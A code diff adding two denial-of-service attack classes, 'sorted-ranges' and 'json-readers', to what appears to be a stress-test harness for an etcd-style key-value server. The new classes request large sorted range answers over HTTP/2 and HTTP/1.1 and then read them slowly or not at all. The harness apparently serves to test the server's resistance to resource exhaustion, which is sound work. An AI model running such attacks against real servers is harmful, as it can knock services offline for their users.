@@ -6,6 +6,8 @@ does not end it, it comes again. Tells in its last line what it did.
 They expect the keys that `fill` has written.
 """
 
+import base64
+import json
 import os
 import select
 import socket
@@ -20,7 +22,7 @@ from http2 import Connection, frame
 
 KEYS = 10_000
 VALUE = b"v" * 256
-RANGE, PUT = "/etcdserverpb.KV/Range", "/etcdserverpb.KV/Put"
+RANGE, PUT, TXN = (f"/etcdserverpb.KV/{name}" for name in ("Range", "Put", "Txn"))
 PREFIX = b"many/"
 # A client that was refused comes again after this long.
 AGAIN_SECONDS = 0.1
@@ -46,6 +48,10 @@ ALL = field(1, PREFIX) + field(2, PREFIX[:-1] + b"0")
 HUNDRED = field(1, key(0)) + field(2, key(100))
 # Looks at every key and answers with none: min_mod_revision.
 EVERY_KEY_LOOKED_AT = ALL + varint(10 << 3) + varint(2**40)
+
+
+# All in the order of their values, from the last on: made as a whole.
+ALL_SORTED = ALL + varint(5 << 3) + varint(2) + varint(6 << 3) + varint(4)
 
 
 def fill(address: str) -> None:
@@ -192,6 +198,59 @@ class SlowReaders(Attack):
                 except OSError:
                     pass
                 self.lost(connections, connection)
+            time.sleep(min(0.05, self.left()))
+
+
+class SortedRanges(Attack):
+    """Ask for large answers that are made as a whole, and take nothing of them."""
+
+    def run(self) -> None:
+        self.again_and_again(self.scaled(20), self.ask, window=0)
+
+    @staticmethod
+    def ask(connection: Connection) -> None:
+        read_only = field(2, field(1, ALL))
+        connection.send(b"".join(connection.request(RANGE, ALL_SORTED) +
+                                 connection.request(TXN, read_only) for _ in range(20)))
+
+
+class JsonReaders(Attack):
+    """Ask over HTTP/1.1 for large answers in JSON, in order and sorted; half of them take nothing,
+    the others a few kilobytes at a time."""
+
+    def run(self) -> None:
+        asked = base64.b64encode(PREFIX).decode(), base64.b64encode(PREFIX[:-1] + b"0").decode()
+        plain = {"key": asked[0], "range_end": asked[1]}
+        sorted_ = {**plain, "sort_order": "DESCEND", "sort_target": "VALUE"}
+        host, _, port = self.address.partition(":")
+        readers: list[socket.socket] = []
+        while self.left():
+            while len(readers) < self.scaled(40) and self.left():
+                try:
+                    reader = socket.socket()
+                    reader.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
+                    reader.settimeout(1)
+                    reader.connect((host, int(port)))
+                    body = json.dumps(plain if self.opened % 4 < 2 else sorted_).encode()
+                    reader.sendall(b"POST /v3/kv/range HTTP/1.1\r\nHost: 127.0.0.1\r\n"
+                                   b"Content-Length: %d\r\n\r\n" % len(body) + body)
+                    self.opened += 1
+                    readers.append(reader)
+                except OSError:
+                    self.ended_by_server += 1
+                    time.sleep(min(AGAIN_SECONDS, self.left()))
+            for reader in readers[::2]:
+                try:
+                    reader.settimeout(0)
+                    if reader.recv(4096):
+                        continue
+                except BlockingIOError:
+                    continue
+                except OSError:
+                    pass
+                self.ended_by_server += 1
+                readers.remove(reader)
+                reader.close()
             time.sleep(min(0.05, self.left()))
 
 
@@ -343,6 +402,8 @@ ATTACKS = {
     "many-ranges": ManyRanges,
     "zero-windows": ZeroWindows,
     "slow-readers": SlowReaders,
+    "sorted-ranges": SortedRanges,
+    "json-readers": JsonReaders,
     "header-bombs": HeaderBombs,
     "long-heads": LongHeads,
     "unfinished-messages": UnfinishedMessages,
